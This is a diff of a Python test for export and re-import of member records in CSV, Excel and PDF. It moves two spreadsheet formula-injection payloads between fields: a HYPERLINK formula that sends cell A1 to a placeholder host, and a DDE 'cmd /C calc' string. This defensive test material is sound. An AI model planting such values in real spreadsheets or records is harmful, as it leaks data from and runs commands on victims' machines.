@@ -520,8 +520,8 @@ def export_formats_import_back():
     """Vietnamese CSV headers by default, keys on request, Excel and PDF
     with -o; CSV and Excel import back unchanged, formula cells too."""
     db = demo_db("exp_fmt", "7")
-    formula = ['--job-title', '=HYPERLINK("http://x"&A1,"bấm")',
-               '--education', "+1+cmd|' /C calc'!A0"]
+    formula = ['--hometown', '=HYPERLINK("http://x"&A1,"bấm")',
+               '--birthplace', "+1+cmd|' /C calc'!A0"]
     args = [a for a in GOOD]
     args[args.index("--citizen-id") + 1] = "001190054321"
     mid = ok(chibo("member", "add", *args, *formula, db=db)).out.split()[2]
